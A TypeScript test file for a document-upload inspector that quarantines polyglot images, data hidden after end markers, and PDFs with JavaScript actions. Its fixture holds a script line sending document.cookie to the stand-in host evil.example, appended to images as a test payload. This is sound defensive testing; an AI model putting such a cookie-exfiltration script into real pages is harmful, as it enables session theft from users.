import { judgeDocument } from '../../../src/documents/manifest';
import { inspectDocument } from '../../../src/documents/inspection/inspect-document';
import { bufferRangeReader } from '../../../src/documents/inspection/range-reader';
import { uploadPolicy } from '../../../src/documents/upload-policy';
import {
  TEXT_SAMPLE,
  chunked,
  makeCompressedPdf,
  makeDocx,
  makeGif,
  makeJpeg,
  makePdf,
  makePng,
  makeWebp,
  makeZip,
} from './document-fixtures';

async function inspected(bytes: Buffer, filename: string, chunkSize = 4096) {
  const inspection = await inspectDocument(chunked(bytes, chunkSize), {
    filename,
    rangeReader: bufferRangeReader(bytes),
  });
  return { inspection, verdict: judgeDocument(inspection, uploadPolicy()) };
}

const HTML = Buffer.from(
  '<html><body><script>fetch("https://evil.example/" + document.cookie)</script></body></html>',
);

describe('polyglots and data after the end marker', () => {
  it('quarantines a PNG with HTML and a zip appended (the accepted image/png polyglot)', async () => {
    const zip = makeZip([{ name: 'payload.html', data: HTML }]);
    const polyglot = Buffer.concat([makePng(8, 8), HTML, zip]);
    const { inspection, verdict } = await inspected(polyglot, 'cat.png');
    expect(inspection.detectedType.mime).toBe('image/png');
    expect(inspection.metadata.trailingBytes).toBe(HTML.length + zip.length);
    expect(verdict).toMatchObject({ status: 'quarantined', reason: { code: 'TRAILING_DATA' } });
  });

  it('keeps the same polyglot when the policy allows trailing data, and still reports it', async () => {
    const polyglot = Buffer.concat([makePng(8, 8), HTML]);
    const inspection = await inspectDocument(chunked(polyglot, 7), { filename: 'cat.png' });
    expect(judgeDocument(inspection, uploadPolicy({ allowTrailingData: true }))).toEqual({
      status: 'processed',
      reason: null,
    });
    expect(inspection.metadata.trailingBytes).toBe(HTML.length);
  });

  it.each([
    ['PNG', makePng(3, 2), 'a.png'],
    ['JPEG', makeJpeg(30, 20, 1000), 'a.jpg'],
    ['GIF', makeGif(5, 5), 'a.gif'],
    ['WebP', makeWebp(9, 9), 'a.webp'],
    ['PDF', makePdf(2), 'a.pdf'],
    ['compressed PDF', makeCompressedPdf(2), 'a.pdf'],
    ['zip (DOCX)', makeDocx(), 'a.docx'],
  ])('finds a clean %s ends where its format does, and keeps it', async (_kind, bytes, filename) => {
    for (const chunkSize of [1, 5, 4096]) {
      const { inspection, verdict } = await inspected(bytes, filename, chunkSize);
      expect(inspection.metadata.trailingBytes).toBe(0);
      expect(verdict.status).toBe('processed');
    }
  });

  it.each([
    ['JPEG', makeJpeg(30, 20), 'a.jpg'],
    ['GIF', makeGif(5, 5), 'a.gif'],
    ['WebP', makeWebp(9, 9), 'a.webp'],
    ['PDF', makePdf(2), 'a.pdf'],
    ['zip (DOCX)', makeDocx(), 'a.docx'],
  ])('quarantines a %s with a payload after its end marker', async (_kind, bytes, filename) => {
    const { inspection, verdict } = await inspected(Buffer.concat([bytes, HTML]), filename);
    expect(inspection.metadata.trailingBytes).toBe(HTML.length);
    expect(verdict).toMatchObject({ status: 'quarantined', reason: { code: 'TRAILING_DATA' } });
  });

  it('walks a GIF extension of many one-byte sub-blocks across chunk boundaries to its real trailer', async () => {
    const gif = makeGif(5, 5);
    const subBlocks = Buffer.alloc(20_000);
    for (let i = 0; i < subBlocks.length; i += 2) subBlocks[i] = 1; // size 1, then a data byte (0x00 or ';')
    subBlocks.fill(0x3b, 1, 2);
    const comment = Buffer.concat([Buffer.from([0x21, 0xfe]), subBlocks, Buffer.from([0])]);
    const bytes = Buffer.concat([gif.subarray(0, 13), comment, gif.subarray(13)]);
    for (const chunkSize of [1, 3, 4096]) {
      const { inspection } = await inspected(Buffer.concat([bytes, HTML]), 'a.gif', chunkSize);
      expect(inspection.metadata.trailingBytes).toBe(HTML.length);
    }
  });

  it('allows PDF white space (and NUL padding) after the last %%EOF', async () => {
    const padded = Buffer.concat([makePdf(2), Buffer.from('\r\n \0\0\t\f')]);
    expect((await inspected(padded, 'a.pdf')).inspection.metadata.trailingBytes).toBe(0);
  });

  it('is not fooled by a fake end marker placed after the payload (the walk follows every chunk)', async () => {
    const iend = makePng(1, 1).subarray(-12); // a whole IEND chunk
    const disguised = Buffer.concat([makePng(4, 4), HTML, iend]);
    const { inspection, verdict } = await inspected(disguised, 'a.png');
    expect(inspection.metadata.trailingBytes).toBe(HTML.length + 12);
    expect(verdict.reason?.code).toBe('TRAILING_DATA');
  });

  it('ends a JPEG at its own EOI, not at an EOI inside embedded EXIF thumbnail data', async () => {
    const thumbnail = makeJpeg(2, 2); // its FF D9 sits inside the APP1 segment of the outer image
    const app1 = Buffer.concat([Buffer.from([0xff, 0xe1, 0, 0]), Buffer.from('Exif\0\0'), thumbnail]);
    app1.writeUInt16BE(app1.length - 2, 2);
    const outer = makeJpeg(40, 30);
    const jpeg = Buffer.concat([outer.subarray(0, 2), app1, outer.subarray(2)]);
    const { inspection, verdict } = await inspected(jpeg, 'photo.jpg', 3);
    expect(inspection.metadata).toMatchObject({ width: 40, height: 30, trailingBytes: 0 });
    expect(verdict.status).toBe('processed');
  });

  it('quarantines as damaged an image whose end marker is never reached (appended data hidden by a broken chunk)', async () => {
    const png = makePng(4, 4);
    const withoutEnd = Buffer.concat([png.subarray(0, png.length - 12), HTML]);
    const { inspection, verdict } = await inspected(withoutEnd, 'a.png');
    expect(inspection.metadata.trailingBytes).toBeNull();
    expect(verdict).toMatchObject({ status: 'quarantined', reason: { code: 'DAMAGED' } });
  });

  it('says nothing about trailing data for text, which has no end marker', async () => {
    const { inspection } = await inspected(Buffer.from(TEXT_SAMPLE), 'a.txt');
    expect(inspection.metadata.trailingBytes).toBeUndefined();
  });
});

describe('text verdicts do not depend on where a byte falls', () => {
  const ESC = 0x1b;
  function textWithByteAt(position: number, length: number): Buffer {
    const bytes = Buffer.alloc(length, 'a');
    for (let i = 79; i < length; i += 80) bytes[i] = 0x0a;
    bytes[position] = ESC;
    return bytes;
  }

  it.each([1_355, 64 * 1024 + 10, 900_000, 1_999_999])(
    'calls a text file with ESC at byte %i binary',
    async (position) => {
      const { inspection } = await inspected(textWithByteAt(position, 2_000_000), 'notes.txt', 65_536);
      expect(inspection.detectedType.mime).toBe('application/octet-stream');
    },
  );

  it('still calls the same file without the control byte text/plain', async () => {
    const bytes = textWithByteAt(0, 2_000_000);
    bytes[0] = 0x61;
    expect((await inspected(bytes, 'notes.txt', 65_536)).inspection.detectedType.mime).toBe('text/plain');
  });
});

describe('PDF active content', () => {
  /** A classic PDF whose catalog carries `catalogExtra`. */
  function pdfWithCatalog(catalogExtra: string, extraObjects = ''): Buffer {
    // (the longer catalog moves the later objects: the xref is repaired by the scan, as readers do)
    const text = makePdf(1).toString('latin1');
    const withCatalog = text.replace(
      '<< /Type /Catalog /Pages 2 0 R >>',
      `<< /Type /Catalog /Pages 2 0 R ${catalogExtra} >>`,
    );
    return Buffer.from(withCatalog + extraObjects, 'latin1');
  }

  it('lists /OpenAction with /JavaScript and quarantines it by default', async () => {
    const pdf = pdfWithCatalog('/OpenAction << /S /JavaScript /JS (app.alert(1)) >>');
    const { inspection, verdict } = await inspected(pdf, 'invoice.pdf');
    expect(inspection.metadata.activeContent).toEqual(['JavaScript', 'JS', 'OpenAction']);
    expect(verdict).toMatchObject({
      status: 'quarantined',
      reason: { code: 'ACTIVE_CONTENT', message: expect.stringMatching(/\/JavaScript, \/JS/) },
    });
  });

  it('decodes #xx escapes in names, so /J#61vaScript is /JavaScript', async () => {
    const pdf = pdfWithCatalog('/OpenAction << /S /J#61vaScript /J#53 (x) >>');
    expect((await inspected(pdf, 'a.pdf')).inspection.metadata.activeContent).toEqual([
      'JavaScript',
      'JS',
      'OpenAction',
    ]);
  });

  it('matches whole names only: /JSON and /AAPL are not active content', async () => {
    const pdf = pdfWithCatalog('/JSON (x) /AAPL 1');
    expect((await inspected(pdf, 'a.pdf')).inspection.metadata.activeContent).toEqual([]);
  });

  it('lists but keeps an /OpenAction view and an /EmbeddedFile (hyperref, e-invoices) by default', async () => {
    const pdf = pdfWithCatalog(
      '/OpenAction [3 0 R /Fit] /Names << /EmbeddedFiles << /Names [(factur-x.xml) 3 0 R] >> >>',
    );
    const { inspection, verdict } = await inspected(pdf, 'invoice.pdf');
    expect(inspection.metadata.activeContent).toEqual(['OpenAction', 'EmbeddedFile']);
    expect(verdict.status).toBe('processed');
    const strict = uploadPolicy({ quarantinedPdfActiveContent: ['OpenAction', 'EmbeddedFile'] });
    expect(judgeDocument(inspection, strict).reason?.code).toBe('ACTIVE_CONTENT');
  });

  it('keeps a PDF with JavaScript when the policy quarantines no active content', async () => {
    const pdf = pdfWithCatalog('/OpenAction << /S /JavaScript /JS (x) >>');
    const { inspection } = await inspected(pdf, 'a.pdf');
    expect(judgeDocument(inspection, uploadPolicy({ quarantinedPdfActiveContent: [] })).status).toBe(
      'processed',
    );
  });

  it('finds JavaScript named by a catalog kept in a compressed object stream, in the middle of a large file', async () => {
    expect((await inspected(makeCompressedPdf(2), 'a.pdf')).inspection.metadata.activeContent).toEqual([]);
    const scripted = makeCompressedPdf(2, {
      catalogExtra: '/Names << /JavaScript 1 0 R >> /AA << /O 1 0 R >>',
    });
    const padded = Buffer.concat([
      scripted.subarray(0, 15),
      Buffer.from(`%${'p'.repeat(2_000_000)}\n`),
      scripted.subarray(15),
    ]);
    expect(padded.toString('latin1')).not.toContain('/JavaScript');
    // Offsets moved: the repair finds the objects, the catalog is read from its object stream.
    const { inspection, verdict } = await inspected(padded, 'a.pdf', 65_536);
    expect(inspection.metadata.activeContent).toEqual(['JavaScript', 'AA']);
    expect(verdict.reason?.code).toBe('ACTIVE_CONTENT');
  });
});
